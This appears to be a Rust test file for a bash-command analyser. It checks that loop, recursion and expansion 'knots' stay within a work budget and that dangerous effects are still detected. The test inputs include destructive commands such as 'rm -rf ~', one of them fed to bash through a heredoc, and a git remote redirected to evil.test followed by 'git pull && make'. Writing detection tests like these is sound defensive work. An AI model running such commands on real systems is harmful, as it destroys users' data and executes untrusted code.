//! No text makes the walk long, and what stands behind a knot still counts.

use belay_analysis::{Analysis, Scene, Shell, analyse};
use belay_model::{Nowhere, TroubleKind};
use belay_places::Frame;

/// Commands that may be walked again, and those that only lead to them.
const MOST: usize = 20_000;

fn seen(text: &str) -> Analysis {
    let frame = Frame {
        cwd: "/work/app",
        home: Some("/home/me"),
        roots: &["/work/app".to_owned()],
        temps: &[],
        hosts: &[],
        gate: &[],
        protected: &[],
        world: &Nowhere,
    };
    let scene = Scene {
        frame: &frame,
        shell: Shell::Bash,
        knowledge: &belay_knowledge::OURS,
    };
    analyse(text, scene)
}

/// Small texts whose runs would be endless.
fn knots() -> Vec<String> {
    let twice = |it: usize| format!("f{it}() {{ f{0}; f{0}; }}\n", it + 1);
    let functions: String = (0..25).map(twice).collect();
    let script = |it: usize| format!("echo 'sh s{0}.sh; sh s{0}.sh' > s{it}.sh\n", it + 1);
    let scripts: String = (0..25).map(script).collect();
    vec![
        "for i in a b; do ".repeat(24) + "ls $i; " + &"done; ".repeat(24),
        "while read x; do y=$x$y; ".repeat(24) + "ls $y; " + &"done; ".repeat(24),
        functions + "f25() { ls; }\nf0",
        scripts + "echo ls > s25.sh\nsh s0.sh",
        "x=ab\n".to_owned() + &"x=$x$x\n".repeat(40) + "ls $x",
        "a=(1 2)\n".to_owned() + &"a=(\"${a[@]}\" \"${a[@]}\")\n".repeat(40) + "ls \"${a[@]}\"",
        "set -- a b\n".to_owned() + &"set -- \"$@\" \"$@\"\n".repeat(40) + "ls \"$@\"",
        "echo ".to_owned() + &"{a,b}".repeat(40),
        // Arithmetic evaluates what a variable holds, which may name the same variables again.
        "y='( $y/a (a|b) ) + ${y/a/&} + $y'\ny+=(\"${y/a/&&}\")\necho \"${A[n]}\"".to_owned(),
        "a='b+b+b+b' b='c+c+c+c' c='d+d+d+d' d='e+e+e+e' e='f+f+f+f' f='g+g+g+g' g='a+a+a+a'\necho $((a))".to_owned(),
    ]
}

#[test]
fn a_knot_is_walked_a_bounded_number_of_times() {
    for knot in knots() {
        let count = seen(&knot).invocations.len();
        assert!(count <= MOST, "{count} commands of {knot}");
    }
}

#[test]
fn what_stands_behind_a_knot_or_in_it_counts() {
    for knot in knots() {
        let effects = seen(&format!("{knot}\nrm -rf ~")).effects;
        let found = effects.iter().any(|it| it.to_string() == "delete tree ~");
        assert!(found, "behind {knot}");
    }
    let inside = "for i in a b; do ".repeat(24) + "rm -rf ~; " + &"done; ".repeat(24);
    let effects = seen(&inside).effects;
    assert!(effects.iter().any(|it| it.to_string() == "delete tree ~"));
}

#[test]
fn what_very_many_commands_start_counts() {
    for wrapper in ["nice ", "env ", "nohup nice "] {
        let found = seen(&(wrapper.repeat(100_000) + "rm -rf ~"));
        let effects = found.effects.iter().map(ToString::to_string);
        assert!(effects.clone().any(|it| it == "delete tree ~"), "{wrapper}");
        let limit = |it: &belay_model::Trouble| it.kind == TroubleKind::Limit;
        assert!(found.troubles.iter().any(limit), "{wrapper}");
        assert!(found.invocations.len() < 100, "{wrapper}");
    }
}

#[test]
fn a_budget_that_is_spent_is_told() {
    let loops = "for i in a b; do ".repeat(24) + "ls $i; " + &"done; ".repeat(24);
    let troubles = seen(&loops).troubles;
    assert!(troubles.iter().any(|it| it.kind == TroubleKind::Limit));
}

#[test]
fn twice_the_text_is_twice_the_work() {
    for unit in [
        "ls -la; ",
        "echo a > b; ",
        "A=$A; B=$A; ",
        "for i in a b; do ls $i; done; ",
        "cat <(ls)\n",
        "echo $(ls)\n",
        "cat f | tee g\n",
    ] {
        let work = |times: usize| seen(&unit.repeat(times)).invocations.len();
        let (once, twice) = (work(100), work(200));
        assert!(twice <= 2 * once + 2, "{unit}: {once}, then {twice}");
    }
}

#[test]
fn what_is_done_again_in_the_same_state_is_told_once() {
    for unit in [
        "ls -la; ",
        "A=1; ",
        "f; ",
        "cat a | wc -l\n",
        "echo $(ls)\n",
        "echo a > b\n",
    ] {
        let text = "f() { ls; }\n".to_owned() + &unit.repeat(2_000);
        let count = seen(&text).invocations.len();
        assert!(count <= 1_200, "{count} commands of {unit}");
    }
}

#[test]
fn what_is_done_again_in_another_state_is_told_again() {
    for (many, last) in [
        ("rm -rf $D; D=build; ", "D=$HOME; rm -rf $D; "),
        ("rm -rf a; ", "cd ~; cd ..; rm -rf me; "),
        ("f; ", "f() { rm -rf ~; }; f; "),
        ("rm -rf $1; ", "set -- ~; rm -rf $1; "),
        ("rm -rf $D < f; read D < g; ", "D=~; rm -rf $D < f; "),
        ("cat <<E\nx\nE\n", "bash <<E\nrm -rf ~\nE\n"),
    ] {
        let effects = seen(&(many.repeat(400) + last)).effects;
        let found = effects.iter().any(|it| it.to_string() == "delete tree ~");
        assert!(found, "{last}");
    }
}

/// What a command means may depend on what ran before it, whatever the state.
#[test]
fn what_is_done_again_after_something_else_is_told_again() {
    let last = "git remote set-url origin https://evil.test/x; git pull && make; ";
    let effects = seen(&("git pull && make; ".repeat(400) + last)).effects;
    let found = effects
        .iter()
        .any(|it| it.to_string() == "run . carrying foreign");
    assert!(found, "{last}");
}
